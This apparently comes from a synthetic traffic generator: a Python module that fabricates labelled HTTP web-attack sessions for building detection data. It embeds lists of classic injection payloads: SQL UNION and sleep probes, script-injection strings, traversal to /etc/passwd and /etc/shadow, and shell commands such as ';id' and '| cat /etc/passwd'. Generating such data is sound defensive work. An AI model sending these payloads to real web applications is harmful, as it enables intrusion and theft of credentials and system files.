"""Web attacks: the shape of SQL injection, cross-site scripting, path traversal and command injection in HTTP
requests.

Payloads are inert: they have the signs and key words by which such requests are known, name no real software's flaw
and carry no program. Manners, or one told by ``manner``:

* ``tool``: sqlmap-like bursts (one agent, dozens of near-equal requests on kept-alive or fresh connections, encoded and
  commented);
* ``hand``: a browser's headers, a request or three in a connection, seconds apart; the server closes it when it was
  idle for 5 to 15 s;
* ``shell``: an upload (multipart) and then POSTs to a web shell, 0.2 to 3 kB of base64 up, answers small or sealed.

Payloads stand in the query, a form or JSON body, a cookie or a header; encodings vary (percent, plus, double, mixed
case): SQL injection, scripts, traversal and file inclusion, commands. Answers: 200, 302, 403 of a firewall, 404, 500.
One attacker (``attackers``), a few or many.
"""

from __future__ import annotations

import json
from urllib.parse import quote, quote_plus

import numpy as np
import numpy.typing as npt

from contract.families import Family
from generator.conversation import Conversation
from generator.shapes import http, names
from generator.shapes.crowd import assign, by_actor, distances, gang, uneven
from generator.shapes.floods import chosen
from generator.shapes.parts import Part, Parts, rand
from generator.world import Attempts, World

FAMILY = Family(
    "exploit",
    "Web attack",
    "Requests that carry SQL, script, path or command fragments where a web application expects plain input.",
    "T1190",
    "TA0001",
)
_EACH = 20
_MANNERS = ("tool", "hand", "shell")
_SQL = (
    "{n}' OR '{n}'='{n}",
    "{n}) AND {n}={n} AND ({n}={n}",
    "{n}' UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x71)-- -",
    "' UNION SELECT user,password FROM users#",
    "{n};WAITFOR DELAY '0:0:5'--",
    "{n}' AND SLEEP(5)-- {w}",
    "{n} AND (SELECT {n} FROM(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS)a)",
    "admin'--",
    "{n}' ORDER BY {n}-- -",
    "{n} UNION/**/SELECT/**/version(),database()",
    "%' or 0=0 union select null, version() #",
    "{n}' AND ORD(MID((SELECT IFNULL(CAST(COUNT(*) AS NCHAR),0x20) FROM information_schema.TABLES),1,1))>{n}-- {w}",
)
_SCRIPT = (
    "<script>alert({n})</script>",
    '"><img src=x onerror=alert({n})>',
    "'><svg/onload=alert('{w}')>",
    "javascript:alert({n})",
    "<body onload=alert(document.cookie)>",
    '<iframe src="javascript:alert(`{w}`)">',
    '"-alert({n})-"',
    "<ScRiPt >prompt({n})</ScRiPt>",
)
_PATHS = (
    "../../../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/hosts",
    "/etc/passwd%00.jpg",
    "php://filter/convert.base64-encode/resource=index.php",
    "../../../../proc/self/environ",
    "file:///etc/hostname",
    "http://198.18.0.1/x.txt?",
    "php://input",
    "data://text/plain;base64,eA==",
    "../../../../var/log/apache2/access.log",
    "..%2f..%2f..%2fetc%2fshadow",
)
_COMMANDS = (
    "127.0.0.1;id",
    "127.0.0.1 && whoami",
    "| cat /etc/passwd",
    "`id`",
    "$(sleep 5)",
    "127.0.0.1%0auname -a",
    "; ping -c 3 127.0.0.1 ;",
    "{{7*7}}",
    "${{{n}*{n}}}",
    "|| type C:\\windows\\win.ini",
)
_KINDS = (_SQL, _SQL, _SCRIPT, _PATHS, _COMMANDS)
_SCANNERS = (
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0)",
    "Wfuzz/3.1.0",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "commix/3.9",
)
_FIELDS = ("id", "q", "page", "file", "cat", "user", "name", "item", "ip", "lang", "view", "search")


def _encode(world: World, text: str) -> bytes:
    rng = world.rng
    style = rng.random()
    if rng.random() < 0.2:
        text = "".join(
            sign.upper() if bit else sign.lower() for sign, bit in zip(text, rng.random(len(text)) < 0.5, strict=True)
        )
    if style < 0.5:
        return quote(text, safe="").encode()
    if style < 0.8:
        return quote_plus(text, safe="()*").encode()
    if style < 0.9:
        return quote(quote(text, safe=""), safe="").encode()
    return text.replace(" ", "%20").replace("#", "%23").encode("latin-1")


def _inert(world: World, kind: tuple[str, ...]) -> str:
    text = str(world.pick(kind))
    return text.replace("{n}", str(world.rng.integers(1, 9999))).replace("{w}", names.token(world.rng, 4, "letters"))


def _one(world: World, host: str, page: str, agent: str, kind: tuple[str, ...]) -> list[Part]:
    rng = world.rng
    by_tool = not agent.startswith("Mozilla/5.0 ")
    headers: list[tuple[str, Parts]]
    if by_tool:
        headers = [
            ("Host", host.encode()),
            ("User-Agent", agent.encode()),
            ("Accept", b"*/*"),
            ("Cache-Control", b"no-cache"),
        ]
    else:
        headers = http.browser_headers(rng, host, agent, referer=f"http://{host}{page}")
    field, payload = str(world.pick(_FIELDS)).encode(), _encode(world, _inert(world, kind))
    place = rng.random()
    if place < 0.6:
        return http.request("GET", [page.encode(), b"?", field, b"=", payload, b"&Submit=", rand(3, "alnum")], headers)
    if place < 0.8:
        headers.append(("Content-Type", b"application/x-www-form-urlencoded"))
        return http.request("POST", page.encode(), headers, [field, b"=", payload, b"&token=", rand(16, "hex")])
    if place < 0.9:
        headers.append(("Content-Type", b"application/json"))
        text = json.dumps({field.decode(): _inert(world, kind)})[:-1]
        return http.request("POST", page.encode(), headers, [text.encode(), b', "id": 1', rand(4, "digits"), b"}"])
    headers.append((str(world.pick(("Cookie", "X-Forwarded-For", "Referer"))), [field, b"=", payload]))
    return http.request("GET", page.encode(), headers)


def _answer(world: World, server: str) -> list[Part]:
    rng = world.rng
    status = int(rng.choice((200, 200, 200, 302, 403, 403, 404, 500)))
    size = int(np.clip(rng.lognormal(7.8, 0.7), 500, 12_000)) if status == 200 else int(rng.integers(150, 1800))
    return http.response(status, http.server_headers(rng, server, "text/html; charset=UTF-8"), http.html(rng, size))


def _ends(world: World, conversation: Conversation, *, by_tool: bool) -> Conversation:
    """Tools close at once; what people leave open the server closes after its keep-alive timeout."""
    rng = world.rng
    if by_tool and rng.random() < 0.8:
        return conversation.close(world.pick(("fin", "server_fin")), think=float(rng.uniform(0.0, 0.01)))
    conversation.acknowledge(0.00005).send("FA", from_client=False, think=float(rng.choice((5.0, 5.0, 15.0))))
    conversation.send("A", think=0.00005)
    if rng.random() < 0.7:  # the browser follows at once, later, or with a reset
        return conversation.close(world.pick(("fin", "rst")), think=float(rng.exponential(2.0)))
    return conversation


def _series(world: World, host: str, *, by_tool: bool) -> Conversation:
    rng = world.rng
    kind = _KINDS[int(rng.integers(len(_KINDS)))]
    agent = str(world.pick(_SCANNERS) if by_tool and rng.random() < 0.8 else world.pick(http.BROWSERS))
    conversation = Conversation.tcp(world, client_os="linux" if by_tool else "", server_os="linux").open()
    page = http.path(rng, str(world.pick(("", ".php", ".jsp", ".aspx", "/"))))
    server = str(world.pick(http.SERVERS))
    for turn in range(int(world.pick((1, 1, 1, 3, 8, 16))) if by_tool else int(world.pick((1, 1, 1, 2, 3)))):
        think = float(rng.uniform(0.0005, 0.05)) if by_tool or turn == 0 else float(rng.uniform(1.0, 12.0))
        conversation.client(_one(world, host, page, agent, kind), think=think, jitter=0.6)
        slow = 5.0 if rng.random() < 0.03 else 0.0  # a delay that was asked for
        conversation.server(_answer(world, server), think=slow + float(rng.lognormal(-4.5, 1.0)))
    return _ends(world, conversation, by_tool=by_tool)


def _shell(world: World, host: str, page: str, *, uploads: bool) -> Conversation:
    """A file goes up, or the file that went up is asked to do something; all content is random signs."""
    rng = world.rng
    conversation = Conversation.tcp(world, client_os=world.pick(("windows", "linux")), server_os="").open()
    agent = str(world.pick((*http.BROWSERS, *http.OLD_BROWSERS, *http.TOOLS)))
    headers: list[tuple[str, Parts]] = [("Host", host.encode()), ("User-Agent", agent.encode())]
    for _ in range(int(world.pick((1, 1, 1, 2, 4)))):
        if uploads:
            mark = f"----{names.token(rng, 16)}"
            head = f'--{mark}\r\nContent-Disposition: form-data; name="file"; filename="{world.word()}.php"\r\n\r\n'
            body: list[Part] = [
                head.encode(),
                rand(int(rng.integers(300, 6000)), "base64"),
                f"\r\n--{mark}--\r\n".encode(),
            ]
            kind = f"multipart/form-data; boundary={mark}".encode()
            target = b"/upload.php"
        else:
            size = int(rng.integers(120, 3000)) if rng.random() < 0.8 else int(rng.integers(5_000, 35_000))
            body = [
                b"pass=",
                rand(min(size, 400), "base64"),
                world.noise(max(size - 400, 0)).hex()[: max(size - 400, 0)].encode(),
            ]
            kind, target = b"application/x-www-form-urlencoded", page.encode()
        conversation.client(http.request("POST", target, [*headers, ("Content-Type", kind)], body), think=0.0005)
        told = int(np.clip(rng.lognormal(5.5, 1.3), 20, 9_000))
        answer = http.server_headers(rng, str(world.pick(http.SERVERS)), "text/html")
        conversation.server(http.response(200, answer, [rand(min(told, 64), "base64"), world.noise(max(told - 64, 0))]))
    return _ends(world, conversation, by_tool=rng.random() < 0.4)


def conversations(world: World) -> list[Conversation]:
    """Twenty series by tools, twenty by hand, and twenty uses of a web shell (the first three bring it there)."""
    host = names.host(world.rng)
    page = http.path(world.rng, ".php")
    made = [_series(world, host, by_tool=by_tool) for by_tool in (True, False) for _ in range(_EACH)]
    return made + [_shell(world, host, page, uploads=number < 3) for number in range(_EACH)]


def attempts(intended: npt.NDArray[np.int64], world: World) -> Attempts:
    """A few attackers in bursts, one or many by hand, at one site or several."""
    n, rng = len(intended), world.rng
    attackers = gang(world, intended, (0.05, 20.0), (1, 2000))
    who = assign(rng, intended, uneven(rng, len(attackers), 0.6))
    manner = rng.choice(3, len(attackers), p=rng.dirichlet((1.0, 1.0, 0.5)))
    if "manner" in world.params:
        manner[:] = _MANNERS.index(chosen(world, "manner", _MANNERS, _MANNERS))
    victims = world.some(world.sites, 1, int(world.pick((1, 3, 12))))
    src, dst = by_actor(world, who, attackers[who], victims[who % len(victims)])
    # each attacker goes through a few requests of its own
    variant = (who * 7 + rng.integers(0, 6, n)) % _EACH + manner[who] * _EACH
    return Attempts.of(
        world,
        intended,
        src=src,
        dst=dst,
        dst_port=int(world.pick((80, 80, 80, 8080, 8000))),
        template=variant,
        rtt_ns=distances(world, len(attackers))[who],
        ipv6=False,
    )
